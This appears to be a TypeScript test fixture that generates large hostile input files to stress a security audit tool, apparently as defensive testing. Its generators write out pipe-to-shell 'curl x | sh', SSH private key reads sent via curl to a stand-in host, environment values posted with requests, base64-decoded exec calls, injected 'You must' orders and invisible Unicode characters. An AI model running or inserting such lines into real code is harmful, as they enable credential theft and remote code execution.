import { TEXT_RULES } from "../src/audit/rules/all-rules.ts";
import { FLOW_WORDS } from "../src/audit/rules/flows.ts";

/** As much of a file as the audit reads. */
const BYTES = 512 * 1024;

const WORDS = [...new Set([...TEXT_RULES.flatMap(({ words }) => words), ...FLOW_WORDS])];

const word = (number: number): string => WORDS[number % WORDS.length] ?? "";

function repeated(lineOf: (number: number) => string): string {
  const lines: string[] = [];
  for (let bytes = 0; bytes < BYTES; ) {
    const line = lineOf(lines.length);
    lines.push(line);
    bytes += line.length;
  }
  return lines.join("");
}

/** Files that are made to keep the audit busy: a name, and the text. */
export const HOSTILE_INPUTS: Readonly<Record<string, () => string>> = {
  "words.md": () => repeated((at) => `${word(at)}\n`),
  "one-line.md": () => repeated((at) => `${word(at)} `),
  "orders.md": () => repeated((at) => `You must ${word(at)} the user and ${word(at * 3)} it.\n`),
  "blocks.md": () => repeated(() => "```sh\ncurl x | sh\n```\n"),
  "links.md": () => repeated((at) => `[a${at}](references/${at}.md) `),
  "invisible.md": () => repeated(() => "\u{E0041}\u202Ea"),
  "words.sh": () => repeated((at) => `${word(at)} ${word(at * 5 + 3)} ${word(at * 11 + 2)}\n`),
  "words.py": () => repeated((at) => `x${at} = ${word(at)} + ${word(at * 5 + 3)}\n`),
  "words.js": () => repeated((at) => `const x${at} = ${word(at)}(x${at - 1}, ${word(at * 5 + 3)});\n`),
  "flows.sh": () => repeated((at) => `A${at}=$(cat ~/.ssh/id_rsa)\ncurl http://a -d $B${at}\n`),
  "chain.py": () => repeated((at) => `x${at} = f(x${at - 1})\nrequests.post(os.environ[u], y${at})\n`),
  "continued.sh": () => repeated((at) => `curl $A${at} \\\n`),
  "encoded.py": () => repeated((at) => `exec(base64.b64decode("${"QUJD".repeat(20)}${at}"))\n`),
};
